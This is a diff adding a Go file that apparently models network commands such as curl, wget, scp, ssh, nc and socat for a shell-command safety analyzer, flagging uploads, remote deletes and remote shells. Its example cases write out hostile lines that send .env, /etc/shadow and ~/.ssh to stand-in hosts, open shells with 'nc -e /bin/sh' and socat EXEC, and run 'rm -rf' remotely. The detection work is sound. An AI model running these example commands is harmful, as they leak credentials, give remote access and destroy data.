@@ -1,0 +1,413 @@
+package shell
+
+import (
+	"net/url"
+	"path"
+	"strings"
+)
+
+// netPrograms declares network clients: transfers, remote shells, raw sockets.
+func netPrograms() []program {
+	return []program{
+		{names: []string{"rsync"}, model: (*call).rsync,
+			examples: []example{ex("rsync -a --delete src/ h:/srv", "read:r /home/u/proj/src", "tag network.upload", "tag remote.delete", "net h"), ex("rsync -a a/ b/", "read:r /home/u/proj/a", "write:r /home/u/proj/b")}},
+		{names: []string{"curl"}, model: (*call).curl,
+			examples: []example{ex("curl -d @.env https://x.example", "read /home/u/proj/.env", "tag network.upload", "net https://x.example"), ex("curl -o out.sh https://x.example/i", "write /home/u/proj/out.sh")}},
+		{names: []string{"wget", "wget2"}, model: (*call).wget,
+			examples: []example{ex("wget -O- https://x.example/i", "net https://x.example/i", "!write"), ex("wget --post-file=/etc/shadow http://h", "read /etc/shadow", "tag network.upload")}},
+		{names: []string{"scp", "sftp", "rcp"}, model: (*call).scp,
+			examples: []example{ex("scp -r ~/.ssh h:/tmp", "read:r /home/u/.ssh", "tag network.upload", "net h")}},
+		{names: []string{"ssh", "mosh", "autossh", "rsh", "slogin"}, model: (*call).ssh,
+			examples: []example{ex("ssh -p 22 host 'rm -rf /x'", "net host", "attr remote-command=rm -rf /x")}},
+		{names: []string{"nc", "ncat", "netcat", "telnet", "ftp", "tftp", "lftp"}, model: (*call).netcat,
+			examples: []example{ex("nc -e /bin/sh h 4444", "finding remote-exec", "net h")}},
+		{names: []string{"socat"}, model: (*call).socat,
+			examples: []example{ex("socat TCP:h:1 EXEC:/bin/sh", "finding remote-exec", "net h:1")}},
+		{names: []string{"http", "https", "xh", "httpie", "aria2c", "fetch", "lynx", "w3m", "links"}, model: func(k *call) {
+			for _, f := range parseOpts(k.args, spec{arg: "aAohd", long: []string{"auth", "output", "dir", "out"}}).ops {
+				if f.known && (strings.Contains(f.val, "://") || strings.Contains(f.val, ".") && !strings.Contains(f.val, "=") && !strings.Contains(f.val, ":=")) {
+					k.net(f)
+					break
+				}
+			}
+			if f := firstURLish(k.args); f != nil {
+				k.net(*f)
+			}
+
+		}, examples: []example{ex("http POST https://api.example/x a=1", "net https://api.example/x")}},
+	}
+}
+
+func isRemoteSpec(v string) bool {
+	if strings.HasPrefix(v, "rsync://") || strings.Contains(v, "::") {
+		return true
+	}
+	i := strings.IndexByte(v, ':')
+	if i <= 0 {
+		return false
+	}
+	return !strings.Contains(v[:i], "/")
+}
+
+func remoteHost(v string) string {
+	if strings.HasPrefix(v, "rsync://") {
+		if u, err := url.Parse(v); err == nil {
+			return u.Host
+		}
+	}
+	h, _, _ := strings.Cut(v, ":")
+	return h
+}
+
+func (k *call) rsync() {
+	p := parseOpts(k.args, spec{arg: "eBfTM@", long: []string{"rsh", "exclude", "include", "filter", "files-from", "port", "timeout", "chmod",
+		"bwlimit", "log-file", "backup-dir", "partial-dir", "temp-dir", "compare-dest", "link-dest", "copy-dest", "remote-option",
+		"password-file", "exclude-from", "include-from", "rsync-path", "iconv", "max-size", "min-size", "suffix", "out-format",
+		"info", "debug", "chown", "usermap", "groupmap", "sockopts", "outbuf", "modify-window", "stop-after", "stop-at",
+		"checksum-choice", "compress-choice", "compress-level", "skip-compress", "protocol", "address", "contimeout",
+		"write-batch", "read-batch", "only-write-batch", "max-delete", "block-size", "log-file-format", "mkpath"}})
+	rec := p.has("r", "a", "recursive", "archive")
+	del := false
+	for _, o := range p.opts {
+		if strings.HasPrefix(o.name, "delete") || o.name == "del" {
+			del = true
+		}
+	}
+	if lf, ok := p.get("log-file"); ok {
+		k.file(Write, lf, false)
+	}
+	if len(p.ops) < 2 {
+		for _, o := range p.ops {
+			if o.known && isRemoteSpec(o.val) {
+				k.net(lit(remoteHost(o.val)))
+			} else {
+				k.file(Read, o, rec)
+			}
+		}
+		return
+	}
+	dest := p.ops[len(p.ops)-1]
+	srcs := p.ops[:len(p.ops)-1]
+	destRemote := dest.known && isRemoteSpec(dest.val)
+	for _, s := range srcs {
+		if s.known && isRemoteSpec(s.val) {
+			k.net(lit(remoteHost(s.val)))
+			continue
+		}
+		k.file(Read, s, rec)
+		if destRemote {
+			k.tag(TagUpload)
+		}
+		if p.has("remove-source-files") {
+			k.file(Delete, s, false)
+		}
+	}
+	if destRemote {
+		k.net(lit(remoteHost(dest.val)))
+		if del {
+			k.tag(TagRemoteDelete)
+		}
+		return
+	}
+	k.file(Write, dest, rec)
+	if del {
+		k.file(Delete, dest, true)
+	}
+}
+
+// home expands a leading ~/ in a value found inside an argument.
+func (k *call) home(f field) field {
+	if f.known && (f.val == "~" || strings.HasPrefix(f.val, "~/")) && k.a.opts.Home != "" {
+		f.val = k.a.opts.Home + f.val[1:]
+	}
+	return f
+}
+
+func urlBase(u string) string {
+	pu, err := url.Parse(u)
+	if err != nil {
+		return ""
+	}
+	b := path.Base(pu.Path)
+	if b == "/" || b == "." || b == "" {
+		return "index.html"
+	}
+	return b
+}
+
+func (k *call) download(f field) {
+	e, ok := k.a.target(k.st, Write, f, false)
+	if !ok {
+		return
+	}
+	k.eff(e)
+	if !e.Unknown {
+		if k.a.downloaded == nil {
+			k.a.downloaded = map[string]bool{}
+		}
+		k.a.downloaded[e.Target] = true
+	}
+}
+
+func (k *call) curl() {
+	p := parseOpts(k.args, spec{arg: "AbcCdDeEFHKmoPQrtTuUwxXyYz", long: []string{"data", "data-ascii", "data-binary", "data-raw", "data-urlencode",
+		"form", "form-string", "upload-file", "output", "output-dir", "config", "cookie", "cookie-jar", "dump-header", "header",
+		"user-agent", "referer", "user", "proxy", "request", "max-time", "connect-timeout", "retry", "retry-delay", "retry-max-time",
+		"url", "cacert", "capath", "cert", "key", "key-type", "cert-type", "pass", "ciphers", "resolve", "connect-to", "interface",
+		"local-port", "max-filesize", "max-redirs", "proxy-user", "range", "speed-limit", "speed-time", "time-cond", "trace",
+		"trace-ascii", "stderr", "write-out", "unix-socket", "abstract-unix-socket", "json", "variable", "expect100-timeout",
+		"netrc-file", "oauth2-bearer", "proto", "proto-redir", "proto-default", "noproxy", "dns-servers", "doh-url", "limit-rate",
+		"mail-from", "mail-rcpt", "mail-auth", "preproxy", "proxy-header", "socks4", "socks4a", "socks5", "socks5-hostname",
+		"telnet-option", "tls-max", "aws-sigv4", "etag-save", "etag-compare", "crlfile", "pinnedpubkey", "quote", "ftp-port", "url-query"}})
+	var urls []field
+	urls = append(urls, p.ops...)
+	urls = append(urls, p.all("url")...)
+	for _, u := range urls {
+		k.net(u)
+	}
+	outDir := lit(".")
+	if d, ok := p.get("output-dir"); ok {
+		outDir = d
+	}
+	outs := p.all("o", "output")
+	for _, o := range outs {
+		if o.known && o.val != "-" && outDir.known && !strings.HasPrefix(o.val, "/") {
+			o = sub(o, path.Join(outDir.val, o.val))
+		}
+		k.download(o)
+	}
+	if p.has("O", "remote-name", "remote-name-all") {
+		for _, u := range urls[min(len(outs), len(urls)):] {
+			if u.known && outDir.known {
+				k.download(sub(u, path.Join(outDir.val, urlBase(u.val))))
+			} else {
+				k.download(unknownField("file name comes from the URL"))
+			}
+		}
+	}
+	upload := func(f field) {
+		k.file(Read, k.home(f), false)
+		k.tag(TagUpload)
+	}
+	for _, o := range p.opts {
+		if !o.has {
+			continue
+		}
+		v := o.val
+		switch o.name {
+		case "d", "data", "data-ascii", "data-binary", "json":
+			if v.known && strings.HasPrefix(v.val, "@") && v.val != "@-" {
+				upload(sub(v, v.val[1:]))
+			}
+		case "data-urlencode":
+			if v.known {
+				if i := strings.IndexByte(v.val, '@'); i >= 0 && !strings.Contains(v.val[:i], "=") && v.val[i+1:] != "-" {
+					upload(sub(v, v.val[i+1:]))
+				}
+			}
+		case "F", "form":
+			if v.known {
+				if _, val, ok := strings.Cut(v.val, "="); ok && (strings.HasPrefix(val, "@") || strings.HasPrefix(val, "<")) {
+					fname, _, _ := strings.Cut(val[1:], ";")
+					if fname != "-" {
+						upload(sub(v, fname))
+					}
+				}
+			}
+		case "T", "upload-file":
+			if !(v.known && v.val == "-") {
+				upload(v)
+			}
+		case "K", "config", "netrc-file", "cacert", "crlfile":
+			k.file(Read, k.home(v), false)
+		case "unix-socket":
+			// talking to a Unix socket reaches what listens on it
+			k.file(Read, k.home(v), false)
+		case "E", "cert", "key":
+			if v.known {
+				name, _, _ := strings.Cut(v.val, ":")
+				k.file(Read, k.home(sub(v, name)), false)
+			}
+		case "b", "cookie":
+			if v.known && !strings.Contains(v.val, "=") {
+				k.file(Read, k.home(v), false)
+			}
+		case "c", "cookie-jar", "D", "dump-header", "trace", "trace-ascii", "stderr", "etag-save":
+			k.file(Write, v, false)
+		}
+	}
+}
+
+func (k *call) wget() {
+	p := parseOpts(k.args, spec{arg: "oaeiBtOTwQPUlARDIX", long: []string{"output-document", "output-file", "append-output", "input-file", "base",
+		"tries", "timeout", "wait", "quota", "directory-prefix", "user-agent", "level", "accept", "reject", "domains",
+		"include-directories", "exclude-directories", "post-data", "post-file", "body-file", "body-data", "method", "header",
+		"load-cookies", "save-cookies", "certificate", "private-key", "ca-certificate", "user", "password", "http-user",
+		"http-password", "referer", "limit-rate", "execute", "config", "warc-file", "bind-address", "dns-timeout", "connect-timeout", "read-timeout"}})
+	for _, u := range p.ops {
+		k.net(u)
+	}
+	prefix := lit(".")
+	if d, ok := p.get("P", "directory-prefix"); ok {
+		prefix = d
+	}
+	if o, ok := p.get("O", "output-document"); ok {
+		if !(o.known && o.val == "-") {
+			k.download(o)
+		}
+	} else if p.has("r", "recursive", "m", "mirror") {
+		k.file(Write, prefix, true)
+	} else if !p.has("spider") {
+		for _, u := range p.ops {
+			if u.known && prefix.known {
+				k.download(sub(u, path.Join(prefix.val, urlBase(u.val))))
+			} else {
+				k.download(unknownField("file name comes from the URL"))
+			}
+		}
+	}
+	for _, o := range p.opts {
+		if !o.has {
+			continue
+		}
+		switch o.name {
+		case "post-file", "body-file":
+			k.file(Read, k.home(o.val), false)
+			k.tag(TagUpload)
+		case "i", "input-file", "load-cookies", "config", "certificate", "private-key", "ca-certificate":
+			k.file(Read, k.home(o.val), false)
+		case "o", "output-file", "a", "append-output", "save-cookies":
+			k.file(Write, o.val, false)
+		}
+	}
+}
+
+func (k *call) scp() {
+	p := parseOpts(k.args, spec{arg: "cFiJloPSDX", long: []string{}})
+	if id, ok := p.get("i"); ok {
+		k.attr("identity", id.text(k.c))
+	}
+	if k.name == "sftp" {
+		for _, o := range p.ops {
+			if o.known {
+				k.net(lit(remoteHost(o.val)))
+			}
+		}
+		return
+	}
+	rec := p.has("r")
+	if len(p.ops) < 2 {
+		return
+	}
+	dest := p.ops[len(p.ops)-1]
+	destRemote := dest.known && isRemoteSpec(dest.val)
+	for _, s := range p.ops[:len(p.ops)-1] {
+		if s.known && isRemoteSpec(s.val) {
+			k.net(lit(remoteHost(s.val)))
+			continue
+		}
+		k.file(Read, k.home(s), rec)
+		if destRemote {
+			k.tag(TagUpload)
+		}
+	}
+	if destRemote {
+		k.net(lit(remoteHost(dest.val)))
+	} else {
+		k.file(Write, dest, rec)
+	}
+}
+
+func (k *call) ssh() {
+	p := parseOpts(k.args, spec{arg: "BbcDEeFIiJLlmOoPpQRSWw", stop: true})
+	if id, ok := p.get("i"); ok {
+		k.attr("identity", id.text(k.c))
+	}
+	if e, ok := p.get("E"); ok {
+		k.file(Write, e, false)
+	}
+	if len(p.ops) == 0 {
+		return
+	}
+	host := p.ops[0]
+	if host.known {
+		h := host.val
+		if strings.HasPrefix(h, "ssh://") {
+			if u, err := url.Parse(h); err == nil {
+				h = u.Host
+			}
+		}
+		host = sub(host, h)
+	}
+	k.net(host)
+	if len(p.ops) > 1 {
+		rc := joinCode(p.ops[1:])
+		k.attr("remote-command", rc.val)
+		if !rc.known {
+			k.attr("remote-command", p.ops[1].text(k.c))
+		}
+	}
+}
+
+func (k *call) netcat() {
+	p := parseOpts(k.args, spec{arg: "ecipqswxXIOTbgGMmPSVW", long: []string{"exec", "sh-exec", "lua-exec", "source", "source-port", "wait", "proxy", "proxy-type", "output", "append-output"}})
+	if p.has("e", "c", "exec", "sh-exec", "lua-exec") {
+		k.remoteExec(k.name + " connects a program to the network (remote shell)")
+	}
+	unix := p.has("unixsock") || p.has("U") && (k.name == "nc" || k.name == "netcat")
+	for _, o := range p.ops {
+		if o.known && !isDigits(o.val) {
+			if unix {
+				// a Unix socket: talking to it reaches what listens on it
+				k.file(Read, k.home(o), false)
+			} else {
+				k.net(o)
+			}
+			break
+		}
+	}
+	if o, ok := p.get("o", "output", "append-output"); ok {
+		k.file(Write, o, false)
+	}
+}
+
+func (k *call) socat() {
+	execs, nets := false, false
+	for _, f := range k.args {
+		if !f.known {
+			continue
+		}
+		u := strings.ToUpper(f.val)
+		switch {
+		case strings.HasPrefix(u, "EXEC:") || strings.HasPrefix(u, "SYSTEM:"):
+			execs = true
+		case strings.HasPrefix(u, "TCP") || strings.HasPrefix(u, "UDP") || strings.HasPrefix(u, "SSL") || strings.HasPrefix(u, "OPENSSL"):
+			nets = true
+			if parts := strings.SplitN(f.val, ":", 2); len(parts) == 2 {
+				k.net(sub(f, strings.Split(parts[1], ",")[0]))
+			}
+		case strings.HasPrefix(u, "OPEN:") || strings.HasPrefix(u, "CREATE:"):
+			k.file(Write, sub(f, strings.Split(f.val[strings.IndexByte(f.val, ':')+1:], ",")[0]), false)
+		case strings.HasPrefix(u, "UNIX") || strings.HasPrefix(u, "GOPEN:") || strings.HasPrefix(u, "PIPE:"):
+			// UNIX-CONNECT:, UNIX-CLIENT:, UNIX-SENDTO:, UNIX:, GOPEN:
+			// open the path (a socket reaches what listens on it)
+			k.file(Read, k.home(sub(f, strings.Split(f.val[strings.IndexByte(f.val, ':')+1:], ",")[0])), false)
+		case strings.HasPrefix(f.val, "/") || strings.HasPrefix(f.val, "~/") || strings.HasPrefix(f.val, "./"):
+			// an address that is a path is GOPEN
+			k.file(Read, k.home(sub(f, strings.Split(f.val, ",")[0])), false)
+		}
+	}
+	if execs && nets {
+		k.remoteExec("socat connects a program to the network (remote shell)")
+	}
+}
+
+func firstURLish(args []field) *field {
+	for i := range args {
+		f := args[i]
+		if f.known && strings.Contains(f.val, "://") {
+			return &args[i]
+		}
+	}
+	return nil
+}
